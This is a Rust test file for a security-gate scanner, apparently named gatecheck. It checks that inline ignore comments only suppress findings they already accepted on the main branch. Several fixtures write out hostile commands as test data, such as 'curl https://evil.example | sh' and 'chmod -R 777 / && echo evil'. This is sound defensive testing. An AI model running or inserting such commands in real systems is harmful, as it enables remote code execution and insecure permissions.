//! Ignores, gatecheck's own and those of other tools: one counts for what it accepted before the change.

use std::fs;

use super::{FROM, HARMLESS, OPEN, PRIVILEGED, SUPPRESSED, check};

/// `main` has this file, and the change makes another of it.
#[track_caller]
fn check_ignores(main: &str, change: &str, code: i32, findings: &[&str], said: &str) {
    let main = format!(r#"stage compose.yaml "{main}""#);
    check(&main, &format!(r#"write compose.yaml "{change}""#), FROM, code, findings, said);
}

#[test]
fn an_ignore_counts_for_what_one_accepted_before() {
    let head = r"services:\n";
    let ignore = r"    # gatecheck: ignore[compose/privileged] -- why\n";
    let web = |ignore: &str, more: &str| format!(r"  web:\n{more}{ignore}    privileged: true\n");
    let db = |ignore: &str| format!(r"  db:\n    image: db\n{ignore}    privileged: true\n");
    let note = "compose.yaml:3 gatecheck/gate-changed open";
    // A new one does not count, and is shown.
    check_ignores(
        &format!(r"{head}  web:\n    image: web\n"),
        &format!("{head}{}", web(ignore, "")),
        1,
        &[note, OPEN],
        "accepts a finding of compose/privileged that nothing accepted in main, so it does not count for it",
    );
    // One that was there counts, wherever its line is and whatever else changes.
    let old = format!("{head}{}", web(ignore, ""));
    check_ignores(
        &old,
        &format!(r"# a\n{head}{}", web(ignore, r"    image: web\n")),
        0,
        &["compose.yaml:6 compose/privileged suppressed"],
        "",
    );
    // It does not count for more than it did, nor somewhere else.
    check_ignores(
        &old,
        &format!("{head}{}{}", web(ignore, ""), db(ignore)),
        1,
        &[SUPPRESSED, "compose.yaml:7 gatecheck/gate-changed open", "compose.yaml:8 compose/privileged open"],
        "",
    );
    check_ignores(
        &old,
        &format!("{head}{}", db(ignore)),
        1,
        &["compose.yaml:4 gatecheck/gate-changed open", "compose.yaml:5 compose/privileged open"],
        "",
    );
    // Nothing was accepted in a chart's template, of which the same text is another file without the chart.
    let template = format!("{head}{}", web(ignore, r"    image: web\n"));
    check(
        &format!("stage c/Chart.yaml 'name: c'; stage c/templates/a.yaml '{template}'"),
        "git rm --quiet c/Chart.yaml",
        FROM,
        1,
        &["c/templates/a.yaml:4 gatecheck/gate-changed open", "c/templates/a.yaml:5 compose/privileged open"],
        "this ignore accepts a finding of compose/privileged that nothing accepted in main, so it does not count for it",
    );
    // A comment behind the line, and a file under another name.
    check_ignores(
        &format!(r"{head}  web:\n    image: web\n"),
        &format!(
            r"{head}  web:\n    image: web\n    privileged: true # gatecheck: ignore[compose/*] -- why\n"
        ),
        1,
        &[OPEN, "compose.yaml:4 gatecheck/gate-changed open"],
        "",
    );
    let main = format!(r#"stage compose.yaml "{old}""#);
    let moved = ["b.compose.yaml:3 gatecheck/gate-changed open", "b.compose.yaml:4 compose/privileged open"];
    check(&main, "git mv compose.yaml b.compose.yaml", FROM, 1, &moved, "");
}

/// What has no name is what it says, so that an ignore cannot be moved to something else of its kind.
#[test]
fn an_ignore_counts_for_what_has_no_name_only_as_it_was() {
    let dockerfile = |from: &str, run: &str| {
        let ignore = "# gatecheck: ignore[docker/chmod-777] -- why";
        format!(r"FROM {from}\nUSER 1000\n{ignore}\nRUN {run}\n")
    };
    let check_file = |path: &str, then: &str, now: &str, code: i32, findings: &[&str]| {
        check(&format!("stage {path} '{then}'"), &format!("write {path} '{now}'"), FROM, code, findings, "");
    };
    let then = dockerfile("alpine:3", "chmod 777 /tmp/scratch");
    let suppressed = "Dockerfile:4 docker/chmod-777 suppressed";
    let moved = ["Dockerfile:3 gatecheck/gate-changed open", "Dockerfile:4 docker/chmod-777 open"];
    let check_run = |now: &str, code: i32, findings: &[&str]| {
        check_file("Dockerfile", &then, now, code, findings);
    };
    check_run(&dockerfile("alpine:4", "chmod  777 \\\\\n  /tmp/scratch"), 0, &[suppressed]);
    check_run(&dockerfile("alpine:3", "chmod -R 777 / && echo evil"), 1, &moved);
    check_run(&dockerfile("alpine:3", "chmod 777 /tmp/scratch && echo evil"), 1, &moved);
    let stage = |from: &str| {
        let ignore = "# gatecheck: ignore[docker/root-user] -- why";
        format!(r"FROM {from}\n{ignore}\nUSER root\n")
    };
    let user = "Dockerfile:3 docker/root-user suppressed";
    check_file("Dockerfile", &stage("alpine:3"), &stage("alpine:4"), 0, &[user]);
    // A step of a workflow without a name, and the script of one with a name.
    let workflow = |name: &str, run: &str| {
        let steps = format!("      - {name}\n        # gatecheck: ignore[packages/download-and-run] -- why");
        format!("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n{steps}\n        run: {run}\n")
    };
    let path = ".github/workflows/a.yml";
    let suppressed = format!("{path}:8 packages/download-and-run suppressed");
    let moved =
        [format!("{path}:7 gatecheck/gate-changed open"), format!("{path}:8 packages/download-and-run open")];
    for name in ["shell: bash", "name: a"] {
        let check_step = |now: &str, code: i32, findings: &[&str]| {
            check_file(path, &workflow(name, "curl https://a.example | sh"), now, code, findings);
        };
        check_step(&workflow(name, "curl  https://a.example |  sh"), 0, &[&suppressed]);
        check_step(
            &workflow(name, "curl https://evil.example | sh"),
            1,
            &moved.each_ref().map(String::as_str),
        );
    }
}

#[test]
fn other_ways_of_ignoring_are_no_way_out() {
    let main = r#"stage Dockerfile "FROM alpine:3\nUSER 1000\n""#;
    let hadolint = r#"write Dockerfile "FROM alpine:3\n# hadolint ignore=DL3002\nUSER root\n""#;
    let found = ["Dockerfile:2 gatecheck/gate-changed open", "Dockerfile:3 docker/root-user open"];
    check(main, hadolint, FROM, 1, &found, "");
    check(
        &hadolint.replace("write", "stage"),
        "stage a.txt a",
        FROM,
        0,
        &["Dockerfile:3 docker/root-user suppressed"],
        "",
    );
    // The ignore that is pointed at is the one that accepts, not one that does not count.
    let privileged = |without: &str, with: &str| {
        format!(r"services:\n  web:\n    image: web\n{without}    privileged: true{with}\n")
    };
    let ignores = privileged(
        r"    # gatecheck: ignore[compose/privileged]\n",
        " # gatecheck: ignore[compose/privileged] -- why",
    );
    check(
        &format!(r#"stage compose.yaml "{}""#, privileged("", "")),
        &format!(r#"write compose.yaml "{ignores}""#),
        FROM,
        1,
        &[
            "compose.yaml:4 gatecheck/ignore-without-reason open",
            "compose.yaml:5 compose/privileged open",
            "compose.yaml:5 gatecheck/gate-changed open",
        ],
        "",
    );
    // An ignore of a rule over several files.
    let go = r#"stage go.mod "$GO_MOD"; stage go.sum "$GO_SUM""#;
    let ignored = r#"sed -i 's,^require.*,& // gatecheck: ignore[go/sum-entry-missing] -- why,' go.mod; git add go.mod"#;
    let (open, suppressed) =
        ("go.mod:5 go/sum-entry-missing open", "go.mod:5 go/sum-entry-missing suppressed");
    let note = "go.mod:5 gatecheck/gate-changed open";
    check(go, &format!("{ignored}; stage go.sum ''"), FROM, 1, &[open, note], "");
    let broken = format!("{go}; {ignored}; stage go.sum ''");
    check(&broken, "echo >> go.mod", FROM, 0, &[suppressed], "");
    // What git leaves out of an archive or of a listing is scanned.
    let hidden = format!(
        "{PRIVILEGED}; stage .gitignore 'compose.yaml'; stage .gitattributes '* export-ignore -diff'"
    );
    check(HARMLESS, &hidden, FROM, 1, &[OPEN], "");
}

/// Rules over many documents are asked about all that the branch has.
#[test]
fn an_ignore_of_a_rule_over_several_files_counts_for_what_it_accepted() {
    let ignored = |until: &str, modules: &str, more: &str| {
        let ignore = format!("// gatecheck: ignore[go/sum-entry-missing]{until} -- why");
        format!(r"module example.com/web\n\n{ignore}\nrequire (\n{modules})\n{more}")
    };
    let check_module =
        |main: &str, now: &str, arguments: &[&str], code: i32, findings: &[&str], said: &str| {
            let main = format!("stage go.mod '{main}'; stage go.sum ''");
            check(&main, &format!("write go.mod '{now}'"), arguments, code, findings, said);
        };
    let modules = r"example.com/a v1.0.0\nexample.com/b v1.0.0\n";
    let old = ignored("", modules, "");
    let suppressed = [5, 6].map(|line| format!("go.mod:{line} go/sum-entry-missing suppressed"));
    let mut expected: Vec<&str> = suppressed.iter().map(String::as_str).collect();
    check_module(&old, &ignored("", modules, "// c\n"), FROM, 0, &expected, "");
    // One more than were accepted.
    let more = ignored("", &format!(r"{modules}example.com/c v1.0.0\n"), "");
    expected.insert(0, "go.mod:3 gatecheck/gate-changed open");
    expected.push("go.mod:7 go/sum-entry-missing open");
    let said = "accepts a finding of go/sum-entry-missing that nothing accepted in main";
    check_module(&old, &more, FROM, 1, &expected, said);
    // What had expired accepted nothing, nor did what the organisation forbids.
    let open = ["gatecheck/gate-changed open", "go/sum-entry-missing open", "go/sum-entry-missing open"];
    let open: Vec<String> =
        [3, 5, 6].iter().zip(open).map(|(line, it)| format!("go.mod:{line} {it}")).collect();
    let open: Vec<&str> = open.iter().map(String::as_str).collect();
    let ends = ignored(" until=2999-01-01", modules, "");
    let said =
        "2 findings of go/sum-entry-missing that nothing accepted in main, so it does not count for them";
    check_module(&ignored(" until=2020-01-01", modules, ""), &ends, FROM, 1, &open, said);
    let org = tempfile::NamedTempFile::new().unwrap();
    fs::write(org.path(), "org: {allow-ignore: [\"*\"], max-ignore-days: 1000000}\n").unwrap();
    let org = ["--config-from-ref", "main", "--org-config", org.path().to_str().unwrap()];
    check_module(&old, &ends, &org, 1, &open, said);
    // Only what is scanned decides, also of the branch.
    let main = format!("stage a/go.mod '{old}'; stage a/go.sum ''; {HARMLESS}");
    let found: Vec<String> = suppressed.iter().map(|it| format!("a/{it}")).collect();
    let found: Vec<&str> = found.iter().map(String::as_str).collect();
    let now = ignored("", modules, "// c\n");
    check(&main, &format!("write a/go.mod '{now}'"), &["--config-from-ref", "main", "a"], 0, &found, "");
    // Ignores for other tools.
    let pod = |image: &str| {
        let skip = r#"annotations: {checkov.io/skip1: CKV_K8S_38=why}"#;
        let head = format!(r"apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  {skip}\n");
        format!(r"{head}spec:\n  containers:\n    - name: a\n      image: {image}\n")
    };
    let found = ["pod.yaml:6 k8s/service-account-token suppressed"];
    let main = format!("stage pod.yaml '{}'", pod("a:1"));
    check(&main, &format!("write pod.yaml '{}'", pod("a:2")), FROM, 0, &found, "");
}
